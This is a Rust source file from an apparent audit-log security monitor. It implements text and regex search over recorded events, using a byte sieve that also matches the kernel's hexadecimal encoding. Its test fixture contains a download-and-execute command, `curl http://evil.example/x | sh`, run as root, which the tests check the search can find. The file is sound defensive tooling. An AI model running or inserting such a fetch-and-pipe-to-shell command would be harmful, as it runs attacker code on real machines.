//! `--text` and `--regex`: free search through everything that was said about an event.
//!
//! Two steps. Most events are refused by their encoded bytes: a piece that every hit must contain is looked for as it is and as the
//! kernel's hexadecimal, without decoding anything ([`pieces`]). What is left is decoded and looked at value by value. The first step
//! refuses nothing that the second would take; where no such piece can be had, every event is decoded.
//!
//! Looked at are the records' text and each of their values, arguments also as one line, paths, addresses, and the names of users,
//! containers and ancestors. Words that the monitor chose (names of calls, categories, errors) have filters of their own.

mod pieces;

use std::sync::Arc;

use anyhow::Context;
use collector::text::to_text;
use enricher::Activity;
use history::BodyTest;
use regex::RegexSet;
use serde_json::Value;

/// First byte of a body that is JSON (alerts, decisions, notices); an activity begins with its version.
const JSON: u8 = b'{';

/// What is searched for. All texts must occur, and one of the expressions.
#[derive(Debug)]
pub struct Search {
    texts: Vec<String>,
    set: RegexSet,
    /// None of these may occur or match.
    without: Vec<String>,
    without_set: RegexSet,
    /// Each must be found in the bytes or a term of an activity that fits.
    sieve: Vec<history::Search>,
}

impl Search {
    /// `None` when there is nothing to search for. What has one of the texts or matches one of the expressions of `not_…` does not fit.
    ///
    /// # Errors
    /// An expression that is none; the error shows where.
    pub fn with(
        texts: &[String],
        expressions: &[String],
        not_texts: &[String],
        not_expressions: &[String],
    ) -> anyhow::Result<Option<Self>> {
        let set = RegexSet::new(expressions).context("--regex")?;
        let without_set = RegexSet::new(not_expressions).context("--not regex")?;
        if [texts, expressions, not_texts, not_expressions]
            .iter()
            .all(|list| list.is_empty())
        {
            return Ok(None);
        }
        let mut sieve = Vec::new();
        for text in texts {
            sieve.extend(pieces::of_text(text).and_then(|piece| pieces::sieve(&[piece])));
        }
        if !expressions.is_empty() {
            let all: Option<Vec<_>> = expressions.iter().map(|e| pieces::of_regex(e)).collect();
            sieve.extend(all.and_then(|all| pieces::sieve(&all.concat())));
        }
        Ok(Some(Self {
            texts: texts.to_vec(),
            set,
            without: not_texts.to_vec(),
            without_set,
            sieve,
        }))
    }

    /// Does a stored body fit?
    #[cfg(test)]
    fn fits(&self, body: &[u8]) -> bool {
        let is_json = body.first() == Some(&JSON);
        (is_json || self.sieve.iter().all(|piece| piece.is_in(body))) && self.fits_decoded(body)
    }

    fn fits_decoded(&self, body: &[u8]) -> bool {
        if body.first() == Some(&JSON) {
            return serde_json::from_slice(body).is_ok_and(|json| self.fits_json(&json));
        }
        Activity::decode(body).is_ok_and(|activity| self.fits_activity(&activity))
    }

    /// What the store looks for in whole frames, before a row is looked at. Bodies of other kinds than activities are JSON, in which
    /// characters may be escaped, so it is for activities alone.
    pub fn sieve(&self) -> Vec<history::Search> {
        self.sieve.clone()
    }

    /// As a test that the store puts to rows which the sieve let through.
    pub fn test(self) -> BodyTest {
        BodyTest(Arc::new(move |body: &[u8]| self.fits_decoded(body)))
    }

    fn fits_activity(&self, activity: &Activity) -> bool {
        let mut hits = Hits::new(self);
        strings(activity, &mut |text| hits.look(text));
        hits.done()
    }

    fn fits_json(&self, json: &Value) -> bool {
        let mut hits = Hits::new(self);
        strings_of_json(json, &mut |text| hits.look(text));
        if let Some(argv) = json.get("argv").and_then(Value::as_array) {
            let line: Vec<&str> = argv.iter().filter_map(Value::as_str).collect();
            hits.look(&line.join(" "));
        }
        hits.done()
    }
}

/// What was found so far in one event.
struct Hits<'a> {
    search: &'a Search,
    missing: Vec<&'a str>,
    expression: bool,
    unwanted: bool,
}

impl<'a> Hits<'a> {
    fn new(search: &'a Search) -> Self {
        Self {
            search,
            missing: search.texts.iter().map(String::as_str).collect(),
            expression: search.set.is_empty(),
            unwanted: false,
        }
    }

    fn look(&mut self, text: &str) {
        self.missing.retain(|wanted| !text.contains(wanted));
        self.expression = self.expression || self.search.set.is_match(text);
        self.unwanted = self.unwanted
            || self
                .search
                .without
                .iter()
                .any(|t| text.contains(t.as_str()))
            || self.search.without_set.is_match(text);
    }

    fn done(&self) -> bool {
        self.missing.is_empty() && self.expression && !self.unwanted
    }
}

/// Every text of an activity.
fn strings(a: &Activity, each: &mut dyn FnMut(&str)) {
    for record in a.event.records() {
        each(&to_text(record.body));
        for (_, value) in record.fields() {
            each(&to_text(&value.decode()));
        }
    }
    let p = &a.process;
    each(&a.event.id.to_string());
    for text in [&p.exe, &p.comm] {
        each(text);
    }
    p.argv.iter().for_each(|arg| each(arg));
    each(&p.argv.join(" "));
    for text in [&p.cwd, &p.title, &p.user, &p.previous_exe]
        .into_iter()
        .flatten()
    {
        each(text);
    }
    for ancestor in &p.ancestors {
        each(&ancestor.comm);
        each(&ancestor.exe);
    }
    if let Some(c) = &a.container {
        each(&c.id);
        for text in [&c.name, &c.image, &c.agent].into_iter().flatten() {
            each(text);
        }
    }
    for path in &a.paths {
        each(&path.name);
        each(&path.path);
        let elsewhere = path.real_path.iter().chain(&path.host_path);
        elsewhere.for_each(|place| each(place));
    }
    if let Some(socket) = &a.socket {
        each(&socket.address);
        if let Some(port) = socket.port {
            each(&format!("{}:{port}", socket.address));
        }
    }
    if let Some(target) = &a.target {
        each(&target.comm);
    }
    a.keys.iter().for_each(|key| each(key));
    a.alerts.iter().for_each(|alert| each(alert));
}

fn strings_of_json(value: &Value, each: &mut dyn FnMut(&str)) {
    match value {
        Value::String(text) => each(text),
        Value::Array(list) => list.iter().for_each(|v| strings_of_json(v, each)),
        Value::Object(map) => map.values().for_each(|v| strings_of_json(v, each)),
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use collector::{Event, EventId, RecordType};

    /// An exec of `sh -c 'curl http://evil.example/x | sh'` in /tmp, as the kernel writes it.
    fn body() -> Vec<u8> {
        let mut event = Event::new(EventId::local(1_795_353_018_414, 5));
        event.push(RecordType::SYSCALL, br#"arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=7 pid=8 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="sh" exe="/bin/busybox" subj=kernel key="exec""#);
        let script: String = "curl http://evil.example/x | sh"
            .bytes()
            .map(|b| format!("{b:02X}"))
            .collect();
        event.push(
            RecordType::EXECVE,
            format!(r#"argc=3 a0="sh" a1="-c" a2={script}"#).as_bytes(),
        );
        event.push(RecordType::CWD, br#"cwd="/tmp""#);
        event.push(RecordType::PATH, br#"item=0 name="./a/../tool" inode=9 dev=00:27 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL"#);
        event.push(
            RecordType::SOCKADDR,
            b"saddr=020001BB0A0000050000000000000000",
        );
        let mut out = Vec::new();
        enricher::Enricher::offline().enrich(event).encode(&mut out);
        out
    }

    fn search(texts: &[&str], expressions: &[&str]) -> Search {
        let own = |list: &[&str]| list.iter().map(|t| (*t).to_owned()).collect::<Vec<_>>();
        Search::with(&own(texts), &own(expressions), &[], &[])
            .unwrap()
            .unwrap()
    }

    #[test]
    fn text_is_found_in_hexadecimal_over_arguments_in_joined_paths_and_addresses() {
        let body = body();
        for hit in [
            "evil.example",
            "sh -c curl",
            "/tmp/tool",
            "10.0.0.5:443",
            "/bin/busybox",
            "| sh",
        ] {
            assert!(search(&[hit], &[]).fits(&body), "{hit}");
        }
        for miss in ["wget", "evil.example/y", "10.0.0.6"] {
            assert!(!search(&[miss], &[]).fits(&body), "{miss}");
        }
        assert!(!search(&["evil", "wget"], &[]).fits(&body));
    }

    #[test]
    fn of_expressions_one_must_match() {
        let body = body();
        for hit in [
            &["^/tmp/to+l$"][..],
            &["nothing-there", "(wget|curl) +https?://"],
            &["(?i)EVIL"],
            &[r"^10\.0\.0\.\d+$"],
            &["[a-z]{20,}|busybo."],
        ] {
            assert!(search(&[], hit).fits(&body), "{hit:?}");
        }
        assert!(!search(&[], &["curl .*evil$"]).fits(&body));
    }

    #[test]
    fn alerts_are_searched_as_json() {
        let json = br#"{"title":"A shell","argv":["sh","-c","id; \"x\""]}"#;
        assert!(search(&["-c id; \"x\""], &[]).fits(json));
        assert!(!search(&["shell", "wget"], &[]).fits(json));
    }

    #[test]
    fn a_wrong_expression_is_shown() {
        let error = Search::with(&[], &["a(".into()], &[], &[]).unwrap_err();
        assert!(format!("{error:#}").contains("unclosed group"), "{error:#}");
    }
}
